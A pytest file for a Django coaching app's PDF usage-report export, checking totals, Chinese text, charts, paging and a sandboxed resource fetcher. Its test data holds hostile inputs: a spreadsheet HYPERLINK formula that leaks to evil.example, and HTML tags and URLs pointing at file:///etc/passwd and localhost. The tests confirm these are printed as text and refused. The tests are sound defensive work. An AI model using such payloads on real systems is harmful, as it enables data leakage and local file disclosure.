"""The PDF report, read back with pdfplumber and pypdf."""

import csv
import datetime
import io
from decimal import Decimal

import pdfplumber
import pypdf
import pytest

from coaching.models import ExportRecord, UsageLog
from exports import report
from tests.exports.conftest import APRIL
from tests.factories import ClientFactory, CoachingSessionFactory, ExportRecordFactory, UsageLogFactory

pytestmark = pytest.mark.django_db
URL = "/api/v1/usage-history/export"


def download_pdf(client, **params):
    response = client.get(URL, {"format": "pdf", **params})
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    body = b"".join(response.streaming_content)
    return response, body


def pages_text(body: bytes) -> list[str]:
    with pdfplumber.open(io.BytesIO(body)) as pdf:
        return [page.extract_text() or "" for page in pdf.pages]


def test_pdf_shows_the_coach_period_zone_and_summary(api_for, coach, history):
    ExportRecordFactory(requested_by=coach, format="csv", created_at=datetime.datetime(2026, 4, 3, tzinfo=datetime.UTC))

    response, body = download_pdf(api_for(coach), **APRIL)

    assert response["Content-Type"] == "application/pdf"
    assert body.startswith(b"%PDF-")
    text = "\n".join(pages_text(body))
    assert "Coaching Assistant" in text
    assert "Alice 王" in text
    assert "2026-04-01 to 2026-04-30" in text
    assert "Asia/Taipei" in text
    # Summary: 60 + 30 quota minutes (the -2 adjustment and the free retry do not count).
    assert "Minutes used in the period 90.00 " in text
    # This month against the pro plan's 3,000 minutes: 90 of 3000 = 3.0 %.
    assert "This month against the plan 90.00 of 3,000 min 3.0 % of Pro used in 2026-04" in text
    assert "Sessions transcribed 2 sessions whose first transcription was in the period; 3" in text
    assert "Failed transcriptions 0 failure rate 0.0 % of 2 finished" in text
    assert "Exports generated 1 CSV 1 · PDF 0 · XLSX 0" in text
    assert "Transcription cost USD 1.60 " in text  # 0.96 + 0.48 + 0 + 0.16, in cents (USD has two decimals)


def test_pdf_lists_every_row_with_chinese_names_as_text(api_for, coach, history):
    _, body = download_pdf(api_for(coach), **APRIL)
    text = "\n".join(pages_text(body))

    assert "王小明" in text and "目標設定" in text
    assert "2026-04-01 01:30" in text  # local time
    assert "-2.00" in text
    # The PDF shows text as it is: no spreadsheet apostrophe (the long name wraps in its cell).
    assert '=HYPERLINK("http://evil.example/?' in text and 'leak","click")' in text
    assert "'=HYPERLINK" not in text


def test_pdf_practice_at_a_glance_counts_sessions_hours_and_income_by_currency(api_for, coach, history):
    _, body = download_pdf(api_for(coach), **APRIL)
    text = "\n".join(pages_text(body))

    # April's sessions by session date: 目標設定 (1 h, TWD 2000) and @SUM (0.5 h, USD 50); March's is out.
    assert "2 sessions held · 1.5 hours · income TWD 2,000 · income USD 50.00" in text  # TWD in whole dollars
    assert "2026-04 2 1.5 2,000 50.00" in text
    assert "Total 2 1.5 2,000 50.00" in text  # the by-month totals row


def test_pdf_charts_are_vector_drawings(api_for, coach, history):
    _, body = download_pdf(api_for(coach), **APRIL)

    with pdfplumber.open(io.BytesIO(body)) as pdf:
        first = pdf.pages[0]
        rects = [r for r in first.rects if r["non_stroking_color"] is not None]
        curves = first.curves
    # Bars of the minutes chart and of exports by format, the doughnut's segments as curves.
    assert len(rects) >= 5
    assert len(curves) >= 2
    assert len(pypdf.PdfReader(io.BytesIO(body)).pages[0].images) == 0  # drawn, not pasted as pictures


def test_long_detail_table_repeats_its_header_on_every_page(api_for, coach, history, frozen):
    session = history["sessions"][0]
    for i in range(150):
        UsageLogFactory(
            user=coach,
            session=session,
            client=session.client,
            seconds=60,
            created_at=datetime.datetime(2026, 4, 6, tzinfo=datetime.UTC) + datetime.timedelta(minutes=i),
        )

    _, body = download_pdf(api_for(coach), **APRIL)

    texts = pages_text(body)
    detail_pages = [t for t in texts if "王小明" in t and "2026-04-06" in t]
    assert len(detail_pages) >= 2
    header = "Date and time Kind Session Client Status Provider Minutes Counts Cost USD"
    assert all(header in t for t in detail_pages)
    total = len(texts)
    assert all(f"Page {n} of {total}" in t for n, t in enumerate(texts, start=1))


def test_past_the_row_budget_the_table_is_daily_and_the_full_csv_is_attached(api_for, coach, history, monkeypatch):
    monkeypatch.setattr(report, "ROW_BUDGET", 3)

    response, body = download_pdf(api_for(coach), **APRIL)

    text = "\n".join(pages_text(body))
    assert "more than the 3 a printed report lists one by one" in text
    assert "Day Ledger rows Minutes (plan) Minutes (all kinds) Free retries Cost USD" in text
    assert "2026-04-01 1 60.00 60.00 0 0.96" in text
    assert "2026-04-05 1 0.00 10.00 1 0.16" in text
    assert "Total 4 90.00 98.00 1 1.60" in text  # the plan's minutes are the summary's; all kinds add up
    attachments = pypdf.PdfReader(io.BytesIO(body)).attachments
    name = "usage-history_alice_2026-04-01_2026-04-30.csv"
    assert list(attachments) == [name]
    rows = list(csv.reader(io.StringIO(attachments[name][0].decode("utf-8-sig"))))
    assert len(rows) == 1 + 4 and rows[1][4] == "王小明"
    record = ExportRecord.objects.get(pk=response["X-Export-Record"])
    assert (record.status, record.rows, record.bytes) == ("succeeded", 4, len(body))


def test_a_long_period_past_the_budget_is_summed_by_month(coach, history):
    period_params = {"from": "2026-01-01", "to": "2026-04-30"}  # longer than 92 days
    from analytics.periods import parse_period

    period = parse_period(period_params, tz=coach.tzinfo)
    ctx = report.report_context(coach, period, attachment_name="x.csv", row_budget=3)
    assert ctx.detail_mode == "month"
    assert [(a.label, a.entries, a.quota_minutes) for a in ctx.aggregate_rows] == [
        ("2026-03", 2, Decimal("46.00")),
        ("2026-04", 4, Decimal("90.00")),
    ]


def test_hostile_markup_in_names_is_printed_as_text_and_nothing_is_fetched(coach, frozen, monkeypatch):
    from exports import pdf_export
    from exports.services import usage_export

    fetchers = []
    original = pdf_export.StaticFilesFetcher

    def spy(*args, **kwargs):
        fetchers.append(original(*args, **kwargs))
        return fetchers[-1]

    monkeypatch.setattr(pdf_export, "StaticFilesFetcher", spy)
    coach.name = '<img src="http://127.0.0.1:9/x">'
    coach.save(update_fields=["name"])
    client = ClientFactory(coach=coach, name='<link rel=stylesheet href="file:///etc/passwd">')
    session = CoachingSessionFactory(coach=coach, client=client, title="<img src=file:///etc/passwd>")
    UsageLogFactory(user=coach, session=session, client=client, created_at=frozen - datetime.timedelta(hours=1))

    export = usage_export(coach, fmt="pdf", params={})
    text = "\n".join(pages_text(export.content.read()))

    assert '<img src="http://127.0.0.1:9/x"> alice@example.com' in text  # the coach's name, as text
    assert "<link rel=stylesheet" in text and 'passwd">' in text and "<img src=file:///" in text
    assert len(fetchers) == 1 and fetchers[0].requested == []


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/x",
        "https://example.com/font.woff2",
        "file:///etc/passwd",
        "file://evil.example/static/css/app.css",
        "ftp://example.com/x",
    ],
)
def test_the_fetcher_refuses_the_network_and_files_outside_static(url):
    from exports.pdf_export import StaticFilesFetcher

    fetcher = StaticFilesFetcher()
    with pytest.raises(ValueError, match="may only load files under static/"):
        fetcher.fetch(url)
    assert fetcher.refused == [url]


def test_the_fetcher_refuses_a_path_that_climbs_out_of_static(settings):
    from exports.pdf_export import StaticFilesFetcher, static_root

    fetcher = StaticFilesFetcher()
    escape = static_root().as_uri() + "/../coaching/settings.py"
    with pytest.raises(ValueError):
        fetcher.fetch(escape)


def test_the_fetcher_serves_static_files_and_data_uris():
    from exports.pdf_export import StaticFilesFetcher, static_root

    fetcher = StaticFilesFetcher()
    css = fetcher.fetch((static_root() / "css" / "app.css").as_uri())
    assert css.content_type == "text/css" and css.read() == (static_root() / "css" / "app.css").read_bytes()
    assert fetcher.fetch("data:text/plain;base64,aGk=").read() == b"hi"
    assert fetcher.refused == []


def test_pdf_for_an_unlimited_plan_says_unlimited(api_for, coach, history):
    from tests.exports.conftest import set_plan

    set_plan(coach, "coaching_school")
    _, body = download_pdf(api_for(coach), **APRIL)
    assert "Coaching School: unlimited minutes" in "\n".join(pages_text(body)).replace("\n", " ")


def test_pdf_with_no_usage_still_renders(api_for, coach, frozen):
    _, body = download_pdf(api_for(coach))
    text = "\n".join(pages_text(body))
    assert "No usage in this period." in text
    assert UsageLog.objects.count() == 0


def test_a_chinese_readers_pdf_charts_speak_the_reports_language(api_for, coach, history):
    coach.language = "zh-hant"  # the usage page is Chinese for this coach; the report's wording is English
    coach.save(update_fields=["language"])
    _, body = download_pdf(api_for(coach), **APRIL)
    first_page = pages_text(body)[0]

    assert "Usage report" in first_page
    assert "Transcription minutes" in first_page and "Exports by format" in first_page
    assert "轉錄分鐘數" not in first_page  # no chart title in a second language on the same page
